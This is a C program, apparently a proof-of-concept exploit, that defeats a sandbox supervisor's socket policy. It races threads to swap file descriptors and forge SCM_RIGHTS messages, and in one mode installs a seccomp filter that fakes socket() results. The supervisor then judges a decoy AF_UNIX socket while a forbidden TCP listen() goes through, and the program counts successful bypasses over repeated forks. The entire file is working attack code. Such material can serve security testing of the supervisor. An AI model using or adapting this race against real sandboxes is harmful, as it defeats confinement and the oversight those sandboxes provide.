// Forges what a process shows that hides its memory and its descriptors.
//
// Usage: forge-courier swap|name|answer TRIES
//
// An ordinary user's supervisor has such a process send it copies of its sockets (SCM_RIGHTS), with the number of a
// slot of its page. A thread of this program sends the same with another socket, as soon as the page has that message:
// through a socket of its own, which it put in the place of one that the supervisor had this process make, and whose
// name it gave to another one (`swap`); or to where that message goes, an abstract name, which the profile has to
// allow (`name`). `answer` does the same under a filter that answers socket() with 0, which is a socket that sends
// to its own peer, so that the supervisor gets no other message. TCP sockets may not listen, AF_UNIX ones may: judged
// by what is forged, listen would be allowed. Prints in how many tries the TCP socket listened.
//
// Descriptor 20 is a TCP socket.
#include <fcntl.h>
#include <linux/filter.h>
#include <linux/seccomp.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/prctl.h>
#include <sys/socket.h>
#include <sys/syscall.h>
#include <sys/un.h>
#include <sys/wait.h>
#include <unistd.h>

enum { TCP = 20, OWN = 100, ITS_PEER, OTHER, FORGED, SENDER };
/// Where the supervisor's page is, its slots, and what stands in that of a message which shows a socket.
#define PAGE 0x7e000000UL
enum { SLOTS = 16, SLOT_SIZE = 256, NAME_OFFSET = 128, CONTROL_LENGTH = 20 };

static int next_number, uses_name, has_filter;
static atomic_int is_swapping, is_swapped, is_forging;

static void put(int number, int descriptor) {
    dup2(descriptor, number);
    close(descriptor);
}

static void send_forged(int from, uint64_t token) {
    struct iovec vector = {&token, sizeof token};
    union {
        char bytes[CMSG_SPACE(sizeof(int))];
        struct cmsghdr header;
    } control = {.header = {CMSG_LEN(sizeof(int)), SOL_SOCKET, SCM_RIGHTS}};
    *(int *)CMSG_DATA(&control.header) = FORGED;
    struct msghdr message = {
        .msg_iov = &vector, .msg_iovlen = 1,
        .msg_control = &control, .msg_controllen = CMSG_LEN(sizeof(int)),
    };
    // At first it is told that the socket at the other end was disconnected.
    if (sendmsg(from, &message, MSG_DONTWAIT | MSG_NOSIGNAL) == -1) {
        sendmsg(from, &message, MSG_DONTWAIT | MSG_NOSIGNAL);
    }
}

/// Puts the program's socket in the place of the next one that the supervisor has this process make.
static void *swap(void *unused) {
    (void)unused;
    atomic_store(&is_swapping, 1);
    while (!atomic_load(&is_swapped)) {
        if (fcntl(next_number, F_GETFD) != -1) {
            atomic_store(&is_swapped, dup2(OWN, next_number) == next_number);
        }
    }
    return NULL;
}

static void *forge(void *unused) {
    (void)unused;
    int was_there[SLOTS] = {0}, is_connected = 0;
    atomic_store(&is_forging, 1);
    for (;;) {
        // What this process is made to send goes there, as long as there is room.
        char unused_bytes[16];
        recv(has_filter ? ITS_PEER : OTHER, unused_bytes, sizeof unused_bytes, MSG_DONTWAIT);
        // The supervisor closes what it had made.
        if (has_filter && fcntl(0, F_GETFD) == -1) {
            dup2(OWN, 0);
        }
        for (unsigned slot = 0; slot < SLOTS; slot++) {
            volatile uint64_t *words = (void *)(PAGE + SLOT_SIZE * slot);
            int is_there = words[0] == PAGE + SLOT_SIZE * slot + NAME_OFFSET && words[5] == CONTROL_LENGTH;
            if (is_there && !was_there[slot]) {
                if (uses_name && !is_connected) {
                    struct sockaddr_un name;
                    memcpy(&name, (char *)words + NAME_OFFSET, sizeof name);
                    // What is sent then is no judged call, and in time.
                    is_connected = connect(SENDER, (struct sockaddr *)&name, (socklen_t)words[1]) == 0;
                }
                send_forged(uses_name ? SENDER : ITS_PEER, slot);
            }
            was_there[slot] = is_there;
        }
    }
    return NULL;
}

/// Has a filter answer socket(), but not where it is only tried out.
static void answer_socket(void) {
    struct sock_filter filter[] = {
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, instruction_pointer)),
        BPF_JUMP(BPF_JMP | BPF_JGE | BPF_K, 1, 0, 3),
        BPF_STMT(BPF_LD | BPF_W | BPF_ABS, offsetof(struct seccomp_data, nr)),
        BPF_JUMP(BPF_JMP | BPF_JEQ | BPF_K, SYS_socket, 0, 1),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ERRNO),
        BPF_STMT(BPF_RET | BPF_K, SECCOMP_RET_ALLOW),
    };
    struct sock_fprog program = {sizeof filter / sizeof filter[0], filter};
    int pair[2];
    socketpair(AF_UNIX, SOCK_SEQPACKET, 0, pair);
    put(OWN, pair[0]);
    put(ITS_PEER, pair[1]);
    dup2(OWN, 0);
    prctl(PR_SET_NO_NEW_PRIVS, 1, 0, 0, 0);
    syscall(SYS_seccomp, SECCOMP_SET_MODE_FILTER, 0, &program);
}

static int bound(const char *path, int type) {
    struct sockaddr_un address = {.sun_family = AF_UNIX};
    strcpy(address.sun_path, path);
    int made = socket(AF_UNIX, type, 0);
    bind(made, (struct sockaddr *)&address, sizeof address);
    return made;
}

/// Makes what is put in the places of others.
static void prepare(void) {
    int pair[2];
    struct sockaddr_un own = {.sun_family = AF_UNIX, .sun_path = "own"};
    unlink("own");
    unlink("other");
    unlink("forged");
    socketpair(AF_UNIX, SOCK_DGRAM, 0, pair);
    put(OWN, pair[0]);
    put(ITS_PEER, pair[1]);
    bind(OWN, (struct sockaddr *)&own, sizeof own);
    put(OTHER, bound("other", SOCK_DGRAM));
    put(FORGED, bound("forged", SOCK_STREAM));
    put(SENDER, socket(AF_UNIX, SOCK_DGRAM, 0));
    // From here on it has the page.
    own.sun_path[0] = 'x';
    connect(SENDER, (struct sockaddr *)&own, sizeof own);
    listen(FORGED, 1);
    next_number = open("/dev/null", O_RDONLY);
    close(next_number);
}

/// Whether the TCP socket listens in the end.
static int attack(void) {
    unsigned char pages[SLOTS * SLOT_SIZE / 4096];
    pthread_t swapping, forging;
    int accepts = 0;
    socklen_t size = sizeof accepts;
    prepare();
    if (!uses_name) {
        pthread_create(&swapping, NULL, swap, NULL);
        while (!atomic_load(&is_swapping)) {
        }
    }
    if (has_filter) {
        answer_socket();
    }
    prctl(PR_SET_DUMPABLE, 0);
    if (!uses_name) {
        atomic_store(&is_swapped, 1);
        pthread_join(swapping, NULL);
        rename("other", "own");
    }
    // Natively nothing is there.
    if (mincore((void *)PAGE, SLOTS * SLOT_SIZE, pages) == 0) {
        pthread_create(&forging, NULL, forge, NULL);
        while (!atomic_load(&is_forging)) {
        }
    }
    for (int i = 0; i < 20 && !accepts; i++) {
        listen(TCP, 1);
        getsockopt(TCP, SOL_SOCKET, SO_ACCEPTCONN, &accepts, &size);
    }
    return accepts;
}

int main(int count, char **words) {
    if (count != 3) {
        fputs("usage: forge-courier swap|name|answer TRIES\n", stderr);
        return 2;
    }
    has_filter = strcmp(words[1], "answer") == 0;
    uses_name = has_filter || strcmp(words[1], "name") == 0;
    int tries = atoi(words[2]), reached = 0, status;
    for (int i = 0; i < tries && reached == 0; i++) {
        pid_t child = fork();
        if (child == 0) {
            _exit(attack());
        }
        waitpid(child, &status, 0);
        reached += !WIFEXITED(status) || WEXITSTATUS(status) != 0;
    }
    printf("reached %d\n", reached);
    return 0;
}
